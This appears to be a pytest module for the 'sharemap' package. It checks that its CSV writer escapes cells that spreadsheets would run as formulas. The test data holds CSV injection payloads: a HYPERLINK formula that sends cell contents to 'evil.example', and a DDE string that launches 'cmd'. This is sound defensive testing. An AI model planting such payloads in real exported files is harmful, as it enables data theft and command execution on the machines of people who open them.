"""Output writing: CSV cells that would run as spreadsheet formulas are neutralised."""

from __future__ import annotations

import csv
import json
import re
import shutil
from pathlib import Path

import pandas as pd
import pytest

from sharemap import _io
from sharemap.cli import main
from sharemap.datasets import demo_dir

NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)*|[.,]\d+)(?:[eE][+-]?\d+)?%?")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _read_csv_cells(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://x.example/?"&A2,"details")', '\'=HYPERLINK("http://x.example/?"&A2,"details")'),
    ("+82 2 123", "'+82 2 123"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-5", "-5"),
    ("+3.25", "+3.25"),
    ("-1,234.5", "-1,234.5"),
    ("1e-3", "1e-3"),
    ("누리2동", "누리2동"),
    ("a=b", "a=b"),
])
def test_text_cells_that_start_a_formula_are_neutralised(tmp_path, cell, written):
    frame = pd.DataFrame({"name": [cell], "n": [-5], "x": [-0.5]})
    path = _io.write_csv(frame, tmp_path / "t.csv")
    rows = _read_csv_cells(path)
    assert rows[1] == [written, "-5", "-0.5"]  # numbers stay numbers


def test_column_names_are_neutralised_too(tmp_path):
    path = _io.write_csv(pd.DataFrame({"=cmd": ["a"], "walk_min_-x": [1.0]}), tmp_path / "h.csv")
    assert _read_csv_cells(path)[0] == ["'=cmd", "walk_min_-x"]


def test_write_csv_does_not_change_the_frame(tmp_path):
    frame = pd.DataFrame({"name": ["=1+1", None], "obj": pd.Series(["@x", 3], dtype=object)})
    before = frame.copy()
    _io.write_csv(frame, tmp_path / "t.csv")
    pd.testing.assert_frame_equal(frame, before)
    assert _read_csv_cells(tmp_path / "t.csv")[1:] == [["'=1+1", "'@x"], ["", "3"]]


def test_sharemap_writes_csv_only_through_io():
    """One CSV writer: no module but _io calls to_csv."""
    import sharemap

    pkg = Path(sharemap.__file__).parent
    writers = [p.name for p in pkg.rglob("*.py")
               if ".to_csv(" in p.read_text(encoding="utf-8") and p.name != "_io.py"]
    assert writers == []


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A2,"details")', "=1+1", "@SUM(1)",
           "+cmd|' /C calc'!A0", "-2+3"]


def test_every_csv_of_a_run_is_safe_with_hostile_names(tmp_path):
    """Issue 16 #14: names from input files reach the CSVs neutralised."""
    study = tmp_path / "study"
    shutil.copytree(demo_dir(), study)
    tools = pd.read_csv(study / "tool_libraries.csv", encoding="utf-8-sig", dtype=str)
    tools["name"] = [HOSTILE[k % len(HOSTILE)] for k in range(len(tools))]
    extra = {**tools.iloc[0].to_dict(), "lib_id": "TLX", "lon": "0", "lat": "0"}
    tools = pd.concat([tools, pd.DataFrame([extra])], ignore_index=True)  # a reject
    (study / "tool_libraries.csv").unlink()  # the file's name is the rejects' `source`
    tools.to_csv(study / "=1+2.csv", index=False, encoding="utf-8-sig")
    toml = (study / "study.toml").read_text(encoding="utf-8")
    (study / "study.toml").write_text(toml.replace('"tool_libraries.csv"', '"=1+2.csv"'),
                                      encoding="utf-8")
    dongs = json.loads((study / "dong.geojson").read_text(encoding="utf-8"))
    dongs["features"][0]["properties"]["dong_nm"] = "=1+1"
    (study / "dong.geojson").write_text(json.dumps(dongs, ensure_ascii=False), encoding="utf-8")

    out = tmp_path / "out"
    assert main(["run", str(study / "study.toml"), "--out", str(out), "-q"]) == 0
    written = sorted(out.glob("*.csv"))
    assert {p.name for p in written} >= {"coverage.csv", "gaps.csv", "rejects.csv",
                                         "coverage_groups.csv"}
    seen = set()
    for path in written:
        for row in _read_csv_cells(path):
            for cell in row:
                assert not (cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell)), \
                    (path.name, cell)
                seen.add(cell)
    assert "'=1+1" in seen  # the dong name in coverage.csv / gaps.csv
    assert "'=1+2.csv" in seen  # the source of the rejected row in rejects.csv
    assert any(c.startswith("'=HYPERLINK") for c in seen)  # a tool library's name in gaps.csv
